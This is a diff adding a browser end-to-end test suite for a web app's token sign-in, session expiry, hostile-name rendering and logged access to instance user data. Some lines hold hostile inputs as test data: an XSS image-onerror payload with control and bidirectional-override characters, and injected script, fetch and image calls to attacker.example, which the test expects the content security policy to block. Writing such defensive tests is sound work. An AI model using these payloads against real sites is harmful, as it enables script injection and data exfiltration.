@@ -1,0 +1,107 @@
+/**
+ * Signing in, user data and hostile names, in a real browser.
+ * @module-tag slow
+ */
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { guest, instancesOf } from "../../test/metadata-service.ts";
+import { startTestOperator, type TestOperatorServer } from "../../test/operator-server.ts";
+import { expectAccessible, hasChromium, useBrowser } from "./browser.ts";
+
+describe.skipIf(!hasChromium)("the page with tokens (apt-get install chromium)", () => {
+	const open = useBrowser();
+	const planted = "PLANTED-USER-DATA";
+	const nasty = `<img src=x onerror="document.title='owned'">\u001b[31m\u202e`;
+	const own = { ...guest({ address: "192.0.2.7", userData: Buffer.from(planted) }) };
+	let server: TestOperatorServer;
+	beforeAll(async () => {
+		const named = { ...own, server: { ...(own.server as NonNullable<typeof own.server>), name: nasty } };
+		const tokens = { token: "full-token", readToken: "read-token" };
+		server = await startTestOperator({ ...tokens, instances: instancesOf([named]) });
+	});
+	afterAll(() => server?.close());
+	const signIn = async (page: Page, token: string) => {
+		await page.getByLabel("Token").fill(token);
+		await page.getByRole("button", { name: "Sign in" }).click();
+	};
+
+	it("asks for one, tells a wrong one, and signs out; no script reads the cookie or comes from elsewhere", async () => {
+		const page = await open(server.address);
+		await expectAccessible(page);
+		await signIn(page, "wrong");
+		await page.getByText(/This is not the token/).waitFor();
+		await signIn(page, "read-token");
+		await page.getByText("1 instance", { exact: true }).waitFor();
+		expect(await page.title()).toBe("Guestwire");
+		await page
+			.getByRole("link", { name: nasty.slice(0, 10) })
+			.first()
+			.waitFor();
+		expect(await page.evaluate(() => [document.cookie, localStorage.length, sessionStorage.length])).toEqual([
+			"",
+			0,
+			0,
+		]);
+		const isStopped = await page.evaluate(async () => {
+			const blocked: string[] = [];
+			document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+				blocked.push(effectiveDirective),
+			);
+			const script = document.createElement("script");
+			script.textContent = "document.title = 'owned'";
+			document.body.append(script);
+			await fetch("https://attacker.example/").catch(() => {});
+			new Image().src = "https://attacker.example/x.png";
+			await new Promise((resolve) => setTimeout(resolve, 100));
+			return [document.title, ...blocked];
+		});
+		expect(isStopped).toEqual(["Guestwire", "script-src-elem", "connect-src", "img-src"]);
+		await page.getByRole("button", { name: "Sign out" }).click();
+		await page.getByRole("heading", { name: "Sign in" }).waitFor();
+		expect((await page.request.get(`${server.address}/api/search`)).status()).toBe(401);
+	});
+
+	it("asks for the token again when the session has ended", async () => {
+		const page = await open(`${server.address}/?sort=seen`);
+		await signIn(page, "read-token");
+		await page.getByText("1 instance", { exact: true }).waitFor();
+		await page.context().clearCookies();
+		await page.getByRole("searchbox").fill("x");
+		await page.getByRole("heading", { name: "Sign in" }).waitFor();
+		await signIn(page, "read-token");
+		await page.getByText("No instance matches.").waitFor();
+		expect(new URL(page.url()).search).toBe("?sort=seen&q=x");
+	});
+
+	it("shows a hostile name as text that changes nothing around it", async () => {
+		const page = await open(`${server.address}/instances/${own.id}`);
+		await signIn(page, "read-token");
+		const heading = page.getByRole("heading", { level: 1 });
+		await heading.waitFor();
+		expect(await heading.locator("bdi").textContent()).toBe(nasty);
+		expect(await heading.locator("img").count()).toBe(0);
+		// The badge is to the right of the name, and its letters in their order, whatever direction the name asks for.
+		const [name, badge] = await Promise.all(
+			[heading.locator("bdi"), heading.locator(".badge")].map((it) => it.boundingBox()),
+		);
+		expect(badge?.x).toBeGreaterThanOrEqual((name?.x ?? 0) + (name?.width ?? 0));
+		expect(await page.title()).toBe(`${nasty} – Guestwire`);
+	});
+
+	it("shows user data after a click that is logged, and only with the token for it", async () => {
+		const path = `${server.address}/instances/${own.id}?document=openstack/latest/user_data`;
+		const reader = await open(path);
+		await signIn(reader, "read-token");
+		await reader.getByText(/does not allow user data/).waitFor();
+		const page = await open(path);
+		await signIn(page, "full-token");
+		const show = page.getByRole("button", { name: "Show it" });
+		await show.waitFor();
+		expect(await page.content()).not.toContain(planted);
+		expect(server.lines.join("")).not.toContain("user data was read");
+		await show.click();
+		await page.getByText(planted).waitFor();
+		expect(server.lines.filter((line) => line.includes("user data was read"))).toHaveLength(1);
+		expect(server.lines.join("")).not.toContain(planted);
+	});
+});
